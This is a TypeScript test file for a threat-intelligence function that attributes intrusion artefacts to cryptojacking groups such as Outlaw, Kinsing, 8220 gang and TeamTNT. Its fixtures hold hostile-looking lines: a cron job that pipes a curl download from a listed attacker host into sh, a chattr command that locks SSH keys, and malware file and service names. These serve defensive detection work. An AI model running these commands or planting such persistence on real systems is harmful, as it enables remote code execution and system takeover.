import { readFileSync } from 'node:fs'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { FightAct } from '../event/finding.ts'
import type { Artefact, FamilyTable } from './families.ts'
import { loadIntel } from './load.ts'

const intel = loadIntel()
const table: FamilyTable = JSON.parse(readFileSync(new URL('data/families.json', import.meta.url), 'utf8'))

/** The first entry of a kind that the table holds for a gang. */
function listed(type: string, family: string): string {
  return table.marks.find(([kind, , of]) => kind === type && of === family)?.[1] ?? ''
}

const act = (change: Partial<FightAct>): Pick<FightAct, 'category' | 'what' | 'targets' | 'commandLine'> => ({
  category: 'process-eviction',
  what: '',
  targets: [],
  commandLine: null,
  ...change,
})

const OUTLAW_ACTS = [
  act({
    category: 'persistence-eviction',
    what: 'threw out SSH keys: .ssh',
    commandLine: 'cd ~; chattr -ia .ssh; lockr -ia .ssh',
  }),
  act({ category: 'credential-lock-out', what: 'set passwords: root' }),
]

describe('familyOf', () => {
  it.each<[what: string, artefacts: Artefact[], acts: ReturnType<typeof act>[], family: string]>([
    [
      'a key comment and habits',
      [{ type: 'key', value: 'ssh-rsa AAAAB3Nza mdrfckr' }],
      OUTLAW_ACTS,
      'Outlaw',
    ],
    [
      'a listed host and names of programs',
      [
        { type: 'url', value: `http://${listed('host', 'kinsing')}/x.sh` },
        { type: 'path', value: '/tmp/kdevtmpfsi' },
        { type: 'path', value: '/etc/libsystem.so' },
      ],
      [],
      'Kinsing',
    ],
    [
      'a name below a listed host, in a job',
      [
        { type: 'cron', value: `* * * * * curl -s http://dl.${listed('host', '8220')}/a | sh` },
        { type: 'unit', value: '/etc/systemd/system/pwnrige.service' },
      ],
      [],
      '8220 gang',
    ],
    [
      'an image and an account',
      [
        { type: 'image', value: 'docker.io/alpineos/dockerapi:latest' },
        { type: 'user', value: 'hilde' },
      ],
      [],
      'TeamTNT',
    ],
  ])('%s', (_, artefacts, acts, family) => {
    const found = intel.familyOf(artefacts, acts)
    expect(found?.family).toBe(family)
    expect(found?.confidence).toBeGreaterThanOrEqual(0.5)
    expect(found?.confidence).toBeLessThanOrEqual(0.95)
    expect(found?.reasons.length).toBeGreaterThan(1)
  })

  it.each<[what: string, artefacts: Artefact[], acts: ReturnType<typeof act>[]]>([
    ['nothing', [], []],
    [
      'names that many use',
      [
        { type: 'path', value: '/tmp/kdevtmpfsi' },
        { type: 'process', value: 'xmrig' },
      ],
      [],
    ],
    ['a listed host alone', [{ type: 'host', value: listed('host', 'kinsing') }], []],
    [
      'a listed address and a shared name',
      [
        { type: 'ip', value: listed('ip', 'kinsing') },
        { type: 'path', value: '/tmp/kinsing' },
      ],
      [],
    ],
    ['a key comment alone', [{ type: 'key', value: 'ssh-rsa AAAA mdrfckr' }], []],
    ['habits alone', [], OUTLAW_ACTS],
    [
      'marks of two gangs',
      [
        { type: 'host', value: listed('host', 'kinsing') },
        { type: 'path', value: '/etc/libsystem.so' },
        { type: 'host', value: listed('host', '8220') },
        { type: 'path', value: '/usr/bin/pwnrig' },
      ],
      [],
    ],
    [
      'a wallet that reads like a name',
      [
        { type: 'wallet', value: 'kinsing' },
        { type: 'worker', value: 'mdrfckr' },
      ],
      [],
    ],
  ])('gives no name on %s', (_, artefacts, acts) => expect(intel.familyOf(artefacts, acts)).toBeNull())

  it('counts an address less the longer its list is ago', () => {
    const artefacts = [
      { type: 'ip', value: listed('ip', '8220') },
      { type: 'path', value: '/usr/bin/pwnrig' },
      { type: 'path', value: '/bin/bprofr' },
    ]
    const date = Date.parse(table.sources[0]?.date ?? '')
    const fresh = intel.familyOf(artefacts, [], date)
    expect(fresh?.family).toBe('8220 gang')
    expect(intel.familyOf(artefacts, [], date + 5 * 365 * 86_400_000)).toBeNull()
  })

  it('takes anything', () => {
    fc.assert(
      fc.property(fc.array(fc.record({ type: fc.string(), value: fc.string() })), (artefacts) => {
        intel.familyOf(artefacts, [])
      }),
      { seed: 3, numRuns: 200 },
    )
  })

  it('has a table whose rows name a gang and a source', () => {
    const ids = new Set(table.families.map(([id]) => id))
    for (const [, value, family, weight, source] of table.marks) {
      expect(value).toBe(value.toLowerCase())
      expect(ids.has(family)).toBe(true)
      expect(weight).toBeGreaterThan(0)
      expect(weight).toBeLessThan(0.7)
      expect(table.sources[source]).toBeDefined()
    }
  })
})
